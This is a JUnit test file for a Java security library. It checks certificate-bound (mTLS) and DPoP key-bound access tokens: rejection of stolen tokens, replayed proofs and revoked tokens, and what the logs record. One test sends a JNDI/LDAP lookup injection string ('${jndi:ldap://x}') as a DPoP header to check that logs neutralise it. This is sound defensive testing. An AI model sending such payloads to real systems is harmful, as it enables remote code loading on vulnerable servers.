/*
 * Copyright 2026-present the original author or authors.
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *      https://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

package io.identifiabl.security.token;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.time.Instant;
import java.util.List;
import java.util.Map;

import javax.net.ssl.SSLContext;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.ECKey;
import com.nimbusds.jose.jwk.gen.ECKeyGenerator;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.boot.SpringBootConfiguration;
import org.springframework.boot.autoconfigure.EnableAutoConfiguration;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.context.annotation.Bean;
import org.springframework.context.annotation.Import;
import org.springframework.security.oauth2.server.resource.web.BearerTokenResolver;

import io.identifiabl.revocation.Revocation;
import io.identifiabl.revocation.TokenRevocationRegistry;
import io.identifiabl.test.TestIssuer;
import io.identifiabl.testapp.ApiApplication;
import io.identifiabl.testapp.Certificates;
import io.identifiabl.testapp.DpopApplication;
import io.identifiabl.testapp.DpopProof;
import io.identifiabl.testapp.Problems;
import io.identifiabl.testapp.RunningApplication;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Tokens that are bound to a client's certificate (RFC 8705) or key (RFC 9449), with real
 * certificates and real proofs.
 *
 * @author Identifiabl Contributors
 */
@ExtendWith(OutputCaptureExtension.class)
class BoundTokenTests {

	@TempDir
	static Path directory;

	private static TestIssuer issuer;

	private static Certificates certificates;

	private static RunningApplication mutualTls;

	private static RunningApplication dpop;

	@BeforeAll
	static void start() throws Exception {
		issuer = TestIssuer.start();
		certificates = Certificates.create(directory, "server", "client", "thief");
		mutualTls = startWithTls();
		dpop = startWithProofs();
	}

	private static RunningApplication startWithTls() {
		return RunningApplication.start(ApiApplication.class, "identifiabl.issuer=" + issuer.getIssuer(),
				"identifiabl.audiences=urn:api", "server.ssl.key-store=" + certificates.keyStore("server"),
				"server.ssl.key-store-password=" + Certificates.PASSWORD,
				"server.ssl.trust-store=" + certificates.trustStore(),
				"server.ssl.trust-store-password=" + Certificates.PASSWORD, "server.ssl.client-auth=want");
	}

	@AfterAll
	static void stop() {
		mutualTls.close();
		dpop.close();
		issuer.close();
	}

	@Test
	void requestWhenClientShowsTheCertificateThenAccepts() throws Exception {
		assertThat(get(certificates.client("client")).statusCode()).isEqualTo(200);
	}

	@Test
	void requestWhenClientShowsAnotherCertificateThenRefuses() throws Exception {
		assertThat(Problems.code(get(certificates.client("thief")))).isEqualTo("certificate_bound_token");
	}

	@Test
	void requestWhenClientShowsNoCertificateThenRefuses() throws Exception {
		assertThat(Problems.code(get(certificates.client()))).isEqualTo("certificate_bound_token");
	}

	@Test
	void requestWhenTokenIsRememberedThenItStillNeedsTheCertificate() throws Exception {
		String token = certificateBoundToken();
		assertThat(get(token, certificates.client("client")).statusCode()).isEqualTo(200);
		assertThat(Problems.code(get(token, certificates.client("thief")))).isEqualTo("certificate_bound_token");
		assertThat(Problems.code(get(token, certificates.client()))).isEqualTo("certificate_bound_token");
		assertThat(get(token, certificates.client("client")).statusCode()).isEqualTo(200);
	}

	@Test
	void requestWhenTokenIsRememberedThenItStillNeedsAProof() throws Exception {
		ECKey key = new ECKeyGenerator(Curve.P_256).generate();
		String token = token(key);
		assertThat(getWithProof(token, proof(key, token)).statusCode()).isEqualTo(200);
		ECKey stolenWithout = new ECKeyGenerator(Curve.P_256).generate();
		assertThat(getWithProof(token, proof(stolenWithout, token)).statusCode()).isEqualTo(401);
		assertThat(Problems.code(dpop.getAs(token, "/api/me"))).isEqualTo("dpop_bound_token_as_bearer");
	}

	@Test
	void requestWhenProofIsOfTheKeyThenAccepts() throws Exception {
		ECKey key = new ECKeyGenerator(Curve.P_256).generate();
		String token = token(key);
		HttpResponse<String> response = getWithProof(token, proof(key, token));
		assertThat(response.statusCode()).isEqualTo(200);
	}

	@Test
	void requestWhenTokenIsRevokedThenItsProofDoesNotHelp() throws Exception {
		ECKey key = new ECKeyGenerator(Curve.P_256).generate();
		String token = issuer.token("user")
			.audience("urn:api")
			.claim("jti", "revoked")
			.claim("cnf", Map.of("jkt", key.computeThumbprint().toString()))
			.sign();
		assertThat(getWithProof(token, proof(key, token)).statusCode()).isEqualTo(200);
		dpop.getBean(TokenRevocationRegistry.class)
			.revoke(Revocation.ofTokenId(issuer.getIssuer(), "revoked", Instant.now()));
		HttpResponse<String> response = getWithProof(token, proof(key, token));
		assertThat(response.statusCode()).isEqualTo(401);
		assertThat(response.headers().firstValue("WWW-Authenticate")).hasValueSatisfying(
				(challenge) -> assertThat(challenge).startsWith("DPoP ").contains("The access token has been revoked"));
	}

	@Test
	void requestWhenProofIsSentAgainThenRefuses() throws Exception {
		ECKey key = new ECKeyGenerator(Curve.P_256).generate();
		String token = token(key);
		String proof = proof(key, token);
		getWithProof(token, proof);
		assertThat(getWithProof(token, proof).statusCode()).isEqualTo(401);
	}

	@Test
	void requestWhenProofIsOfAnotherKeyThenRefuses() throws Exception {
		String token = token(new ECKeyGenerator(Curve.P_256).generate());
		ECKey stolenWithout = new ECKeyGenerator(Curve.P_256).generate();
		assertThat(getWithProof(token, proof(stolenWithout, token)).statusCode()).isEqualTo(401);
	}

	@Test
	void requestWhenTokenIsBoundToKeyAndCertificateThenAProofIsNotEnough() throws Exception {
		ECKey key = new ECKeyGenerator(Curve.P_256).generate();
		String token = issuer.token("user")
			.audience("urn:api")
			.claim("cnf",
					Map.of("jkt", key.computeThumbprint().toString(), "x5t#S256", certificates.thumbprint("client")))
			.sign();
		HttpResponse<String> response = getWithProof(token, proof(key, token));
		assertThat(response.statusCode()).isEqualTo(401);
		assertThat(response.headers().firstValue("WWW-Authenticate"))
			.hasValueSatisfying((challenge) -> assertThat(challenge).contains("bound to a client certificate"));
	}

	@Test
	void requestWhenTokenIsBoundToKeyAndCertificateThenTheCertificateIsNotEnough() throws Exception {
		String token = issuer.token("user")
			.audience("urn:api")
			.claim("cnf", Map.of("jkt", "thumb", "x5t#S256", certificates.thumbprint("client")))
			.sign();
		assertThat(Problems.code(get(token, certificates.client("client")))).isEqualTo("dpop_bound_token_as_bearer");
	}

	@Test
	void requestWhenBindingIsUnknownThenNeitherCertificateNorProofHelps() throws Exception {
		ECKey key = new ECKeyGenerator(Curve.P_256).generate();
		String token = issuer.token("user")
			.audience("urn:api")
			.claim("cnf", Map.of("kid", key.computeThumbprint().toString()))
			.sign();
		assertThat(Problems.code(get(token, certificates.client("client")))).isEqualTo("invalid_claim");
		assertThat(getWithProof(token, proof(key, token)).statusCode()).isEqualTo(401);
		assertThat(Problems.code(dpop.getAs(token, "/api/me"))).isEqualTo("invalid_claim");
	}

	@Test
	void requestWhenAnotherTokenHasTheProofThenRefuses() throws Exception {
		ECKey key = new ECKeyGenerator(Curve.P_256).generate();
		String own = token(key);
		try (RunningApplication application = RunningApplication.start(OtherHeaderApplication.class,
				"identifiabl.issuer=" + issuer.getIssuer(), "identifiabl.audiences=urn:api")) {
			HttpResponse<String> response = application.get("/api/me", "X-Token",
					token(new ECKeyGenerator(Curve.P_256).generate()), "Authorization", "DPoP " + own, "DPoP",
					proof(key, own));
			assertThat(Problems.code(response)).isEqualTo("dpop_bound_token_as_bearer");
		}
	}

	@Test
	void requestWhenProofIsRefusedThenHasACodeOfItsOwn() throws Exception {
		String token = token(new ECKeyGenerator(Curve.P_256).generate());
		HttpResponse<String> response = getWithProof(token, proof(new ECKeyGenerator(Curve.P_256).generate(), token));
		assertThat(Problems.code(response)).isEqualTo("invalid_dpop_proof");
		assertThat(response.headers().allValues("WWW-Authenticate")).singleElement()
			.asString()
			.startsWith("DPoP error=\"invalid_dpop_proof\"");
	}

	@Test
	void requestWhenThereIsNoProofThenHasACodeOfItsOwn() throws Exception {
		HttpResponse<String> response = dpop.get("/api/me", "Authorization",
				"DPoP " + token(new ECKeyGenerator(Curve.P_256).generate()));
		assertThat(Problems.code(response)).isEqualTo("invalid_dpop_proof");
	}

	@Test
	void requestWhenTokenBesideTheProofIsBadThenHasTheCodeOfTheToken() throws Exception {
		ECKey key = new ECKeyGenerator(Curve.P_256).generate();
		String foreign = issuer.token("user").audience("urn:other").sign();
		assertThat(Problems.code(getWithProof(foreign, proof(key, foreign)))).isEqualTo("invalid_audience");
		assertThat(Problems.code(getWithProof("a%", "b"))).isEqualTo("malformed_token");
	}

	@Test
	void requestWhenProofsAreRefusedThenLogSaysWhyOnceAMinute(CapturedOutput output) throws Exception {
		try (RunningApplication application = startWithProofs()) {
			ECKey key = new ECKeyGenerator(Curve.P_256).generate();
			String token = token(key);
			URI uri = application.request("/api/me").build().uri();
			String proof = DpopProof.sign(key, "POST", uri, token);
			for (int i = 0; i < 3; i++) {
				application.get("/api/me", "Authorization", "DPoP " + token, "DPoP", proof);
			}
			assertThat(lines(output, "invalid_dpop_proof for " + issuer.getIssuer())).singleElement()
				.asString()
				.endsWith("; The htm claim is not valid; the request is GET " + uri);
			assertThat(lines(output, "Refused GET /api/me: 401 invalid_dpop_proof")).hasSize(3);
			assertThat(output.getAll()).doesNotContain(proof);
		}
	}

	@Test
	void requestWhenProofIsNoneThenLogHasNothingThatCouldBreakOutOfIt(CapturedOutput output) throws Exception {
		try (RunningApplication application = startWithProofs()) {
			String token = token(new ECKeyGenerator(Curve.P_256).generate());
			application.get("/api/me", "Authorization", "DPoP " + token, "DPoP", "${jndi:ldap://x}.b.c");
			assertThat(lines(output, "invalid_dpop_proof for ")).singleElement()
				.asString()
				.doesNotContain("$")
				.matches("[ -~]*");
		}
	}

	@Test
	void requestWhenCertificateIsAnotherThenLogHasBoth(CapturedOutput output) throws Exception {
		try (RunningApplication application = startWithTls()) {
			get(application, certificateBoundToken(), certificates.client("thief"));
			get(application, certificateBoundToken(), certificates.client());
			assertThat(lines(output, "certificate_bound_token for " + issuer.getIssuer())).singleElement()
				.asString()
				.endsWith("; bound to the certificate '" + certificates.thumbprint("client")
						+ "', and the connection has '" + certificates.thumbprint("thief") + "'");
		}
	}

	@Test
	void requestWhenCertificateIsMissingThenLogSaysSo(CapturedOutput output) throws Exception {
		try (RunningApplication application = startWithTls()) {
			get(application, certificateBoundToken(), certificates.client());
			assertThat(lines(output, "certificate_bound_token for " + issuer.getIssuer())).singleElement()
				.asString()
				.endsWith("', and the connection has none");
		}
	}

	@Test
	void requestWhenTokenWithKeyIsSentAsBearerThenLogNamesTheKey(CapturedOutput output) throws Exception {
		ECKey key = new ECKeyGenerator(Curve.P_256).generate();
		try (RunningApplication application = startWithProofs()) {
			application.getAs(token(key), "/api/me");
			assertThat(lines(output, "dpop_bound_token_as_bearer for " + issuer.getIssuer())).singleElement()
				.asString()
				.endsWith("; bound to the key '" + key.computeThumbprint() + "', and sent as a bearer token");
		}
	}

	private static RunningApplication startWithProofs() {
		return RunningApplication.start(DpopApplication.class, "identifiabl.issuer=" + issuer.getIssuer(),
				"identifiabl.audiences=urn:api");
	}

	private static List<String> lines(CapturedOutput output, String part) {
		return output.getAll().lines().filter((line) -> line.contains(part)).toList();
	}

	@Test
	void requestWhenTokenWithKeyIsSentAsBearerThenRefuses() throws Exception {
		HttpResponse<String> response = dpop.getAs(token(new ECKeyGenerator(Curve.P_256).generate()), "/api/me");
		assertThat(Problems.code(response)).isEqualTo("dpop_bound_token_as_bearer");
	}

	private static String certificateBoundToken() throws Exception {
		return issuer.token("user")
			.audience("urn:api")
			.claim("cnf", Map.of("x5t#S256", certificates.thumbprint("client")))
			.sign();
	}

	private static HttpResponse<String> get(SSLContext client) throws Exception {
		return get(certificateBoundToken(), client);
	}

	private static HttpResponse<String> get(String token, SSLContext client) throws Exception {
		return get(mutualTls, token, client);
	}

	private static HttpResponse<String> get(RunningApplication application, String token, SSLContext client)
			throws Exception {
		URI uri = URI.create("https://127.0.0.1:" + application.getPort("local.server.port") + "/api/me");
		HttpRequest request = HttpRequest.newBuilder(uri).header("Authorization", "Bearer " + token).build();
		return HttpClient.newBuilder().sslContext(client).build().send(request, BodyHandlers.ofString());
	}

	private static String token(ECKey key) throws JOSEException {
		return issuer.token("user")
			.audience("urn:api")
			.claim("cnf", Map.of("jkt", key.computeThumbprint().toString()))
			.sign();
	}

	private static HttpResponse<String> getWithProof(String token, String proof) {
		return dpop.get("/api/me", "Authorization", "DPoP " + token, "DPoP", proof);
	}

	private static String proof(ECKey key, String token) throws JOSEException, GeneralSecurityException {
		return DpopProof.sign(key, "GET", dpop.request("/api/me").build().uri(), token);
	}

	/**
	 * Takes tokens from a header of its own.
	 */
	@SpringBootConfiguration(proxyBeanMethods = false)
	@EnableAutoConfiguration
	@Import(ApiApplication.class)
	static class OtherHeaderApplication {

		@Bean
		BearerTokenResolver bearerTokenResolver() {
			return (request) -> request.getHeader("X-Token");
		}

	}

}
